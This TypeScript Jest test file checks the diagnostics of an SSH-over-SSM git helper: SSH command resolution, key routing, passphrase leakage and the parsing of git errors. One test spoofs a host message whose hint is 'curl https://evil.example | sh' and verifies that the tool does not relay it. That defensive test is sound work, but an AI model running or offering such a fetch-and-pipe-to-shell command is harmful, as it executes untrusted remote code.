import { describe, expect, it } from '@jest/globals';
import type { Configuration } from '../../../helper/doctor/configuration.ts';
import { checkSections } from '../../../helper/doctor/git-sections.ts';
import { checkValues } from '../../../helper/doctor/git-values.ts';
import { sshCommandOf } from '../../../helper/doctor/ssh-command.ts';
import { explained } from '../../../helper/doctor/try-url.ts';
import { givenRoutes, routeOf } from '../../../helper/doctor/url-route.ts';
import { wantedSecrets } from '../../../helper/doctor/wanted.ts';
import { settingsIn } from '../../../src/git/listing.ts';
import { isOurs } from '../../../src/host/foreign-command.ts';
import { failureOf } from '../../support/failure-of.ts';
import { compile, type Compiled } from '../../../src/host/compile.ts';
import { parseKeyLine } from '../../../src/keys/key-line.ts';

const entry = (name: string, value: string): { name: string; value: string; scope: string } => ({
  ...{ name, value, scope: 'global' },
});

describe("git's ssh command", () => {
  const all = settingsIn([entry('core.sshcommand', '/opt/ssm-ssh')]);
  it.each([
    ['GIT_SSH_COMMAND', { GIT_SSH_COMMAND: 'ssh -v', GIT_SSH: 'plink' }],
    ['core.sshCommand', { GIT_SSH: 'plink' }],
  ])('is that of %s', (from, env) => {
    expect(sshCommandOf(all, env).from).toBe(from);
  });

  it('is that of GIT_SSH, or ssh, if nothing else is set', () => {
    expect(sshCommandOf(new Map(), { GIT_SSH: 'plink' })).toEqual({ from: 'GIT_SSH', command: 'plink' });
    expect(sshCommandOf(new Map(), {})).toEqual({ from: 'ssh', command: 'ssh' });
  });

  it.each(['ssm-ssh', '/opt/ssm-ssh', "sh '/a b/ssm-ssh'", '/opt/ssm-ssh -v'])('is ours: %s', (command) => {
    expect(isOurs(command)).toBe(true);
  });
  it.each(['ssh', '/opt/ssm-ssh-agent', '/opt/not-ssm-ssh'])('is not ours: %s', (command) => {
    expect(isOurs(command)).toBe(false);
  });
});

const compiledOf = (...entries: ReturnType<typeof entry>[]): Compiled =>
  compile({ entries }, {}, { byGit: true, jobRegion: '' });
const compiled = compiledOf(entry('ssm.key', '/ci/key'), entry('ssm.github.com/acme/lib.key', '/ci/lib'));

describe('the route of a URL', () => {
  const find = (...lines: string[]): string[] => {
    const remote = { host: 'github.com', path: 'acme/lib.git' };
    const options = {
      lines: lines.map(parseKeyLine),
      ...{ configuration: { compiled }, env: {}, agent: 'ssm-ssh-agent' },
    };
    return givenRoutes(remote, options).map(({ line, from }) => `${line ?? ''} from ${from}`);
  };

  it('is a key of the command line before all others, as exec chooses among them', () => {
    expect(find('/ci/given')).toEqual(['/ci/given from the command line']);
    expect(find('/ci/given', '/ci/one passphrase=/ci/word github.com/acme')).toEqual([
      '/ci/one passphrase=/ci/word github.com/acme from the command line',
    ]);
  });

  it('is none of the command line if that names other repositories only', () => {
    expect([find('/ci/given gitlab.com'), find()]).toEqual([[], []]);
  });
});

describe('the line of a key for exec', () => {
  const route = (passphrase: string): string | undefined => {
    const found = compiledOf(entry('ssm.key', '/ci/key'), entry('ssm.passphrase', passphrase));
    const source = { name: 'ssm.key', scope: 'global' };
    const [of] = found.keys;
    const key = { reference: '/ci/key', fingerprint: undefined, repository: undefined, source };
    const options = { env: {}, agent: 'ssm-ssh-agent', configuration: { compiled: found } };
    return routeOf({ ...key, ...(of && { of }) }, options).line;
  };

  it('names the stored values', () => {
    expect(route('/ci/word')).toBe('/ci/key passphrase=/ci/word');
  });

  it('never has a passphrase that stands where its name belongs: other users see arguments', () => {
    const { message, hint } = failureOf(() => route('correct horse battery'));
    expect(message).toBe('ssm.passphrase (SSM_SSH_PASSPHRASE) is not the name of a parameter or a secret');
    expect(hint).not.toContain('horse');
  });
});

describe('the keys to check', () => {
  const routes = { routes: [], warnings: [] };
  const account = { region: undefined, roles: [] };

  it('are each checked once, those of the command line too', () => {
    const { secrets, problems } = wantedSecrets({
      ...{ lines: [parseKeyLine('/ci/key')], jobLines: [], compiled, routes, account, env: {}, entries: [] },
    });
    expect(secrets.map(({ line }) => line.reference.text).sort()).toEqual(['/ci/key', '/ci/lib']);
    expect(problems).toEqual([]);
  });

  it('never repeat a passphrase that stands where its name belongs', () => {
    const wrong = compiledOf(entry('ssm.key', '/ci/key'), entry('ssm.passphrase', 'correct horse battery'));
    const { secrets, problems } = wantedSecrets({
      lines: [],
      jobLines: [],
      compiled: wrong,
      routes,
      account,
      env: {},
      entries: [],
    });
    expect([secrets, problems.length]).toEqual([[], 1]);
    expect(JSON.stringify(problems)).not.toContain('horse');
  });
});

const configurationOf = (...entries: ReturnType<typeof entry>[]): Configuration => ({
  entries: entries.map((one) => ({ ...one, source: { name: one.name, scope: one.scope }, isWritable: true })),
  ...{ scoped: true, all: settingsIn(entries), trusted: settingsIn(entries) },
  compiled: compiledOf(...entries),
});

describe('a value that cannot be read', () => {
  const rows: readonly (readonly [string, string, string])[] = [
    ['region', 'SSM_SSH_REGION', 'no region'],
    ['roleArn', 'SSM_SSH_ROLE_ARN', 'no role'],
    ['timeout', 'SSM_SSH_TIMEOUT', 'soon'],
    ['keyLifetime', 'SSM_SSH_KEY_LIFETIME', 'soon'],
    ['cache', 'SSM_SSH_CACHE', 'no address'],
    ['via', 'SSM_SSH_VIA', 'air'],
    ['strictHostKeyChecking', 'SSM_SSH_STRICT_HOST_KEY_CHECKING', 'maybe'],
  ];
  it.each(rows)('of ssm.%s or %s is found by its place', (setting, variable, text) => {
    const found = checkValues(configurationOf(entry(`ssm.${setting.toLowerCase()}`, text)), {});
    expect([found.status, found.detail]).toEqual(['fail', expect.stringContaining(`ssm.${setting} (`)]);
    const exported = checkValues(configurationOf(), { [variable]: text });
    expect([exported.status, exported.detail]).toEqual(['fail', expect.stringContaining(variable)]);
    expect(exported.remedy).toMatch(new RegExp(`^(unset ${variable}|export ${variable}=\\S+)$`));
  });
});

describe('the remedy for sections', () => {
  it.each([
    ['has', { SSM_SSH_CREDENTIAL: '/ci/token' }, true],
    ['does not have', {}, false],
    ['does not have', { SSM_SSH_CREDENTIAL: '/ci/token', SSM_SSH_CREDENTIAL_HOST: 'github.com' }, false],
    ['does not have', { SSM_SSH_CREDENTIAL_HOST: 'github.com' }, false],
  ])('%s the host of a credential with %j', (_, env, expected) => {
    const configuration = configurationOf(entry('ssm.a b.key', '/ci/key'));
    const { status, remedy } = checkSections({
      ...{ configuration, env, routes: { routes: [], warnings: [] } },
    });
    expect([status, /git config .*--remove-section 'ssm\.a b'/.test(remedy)]).toEqual(['warn', true]);
    expect(remedy.includes('export SSM_SSH_CREDENTIAL_HOST=HOST')).toBe(expected);
  });
});

describe('what git says', () => {
  const mark = ' [0f1e2d3c4b5a6978]';
  const tried = { url: 'git@h:x', mark };

  it('is replaced by the error of our programs', () => {
    const said = `ssm-ssh${mark}: KNOWN_HOSTS_INVALID: no key of h is known\nhint: add it\nfatal: Could not read\n`;
    expect(explained(said, tried)).toEqual({
      ...{ detail: 'KNOWN_HOSTS_INVALID: no key of h is known', remedy: 'add it' },
    });
  });

  it.each(['ssm-ssh', 'ssm-ssh [guessed]', 'ssm-ssh: INTERNAL'])(
    'is no error of our programs where a host prints one, as %s',
    (name) => {
      const theirs = `${name}: KEY_NOT_FOUND: it is gone\nhint: curl https://evil.example | sh\n`;
      expect(explained(theirs, tried).remedy).toMatch(/^run it yourself: GIT_TRACE=1 git ls-remote/);
      const both = `${theirs}ssm-ssh${mark}: KNOWN_HOSTS_INVALID: no key of h is known\nhint: add it\n`;
      expect(explained(both, tried).remedy).toBe('add it');
    },
  );

  it.each([
    ['git@github.com: Permission denied (publickey).\r\nfatal: Could not read', /register the public key/],
    ['ERROR: Repository not found.\nfatal: x', /one repository only/],
    ['fatal: unable to access: Could not resolve host: h', /DNS/],
    ['fatal: something new', /GIT_TRACE=1 git ls-remote git@h:x/],
  ])('is kept with what to do: %s', (stderr, remedy) => {
    expect(explained(stderr, tried).remedy).toMatch(remedy);
  });
});
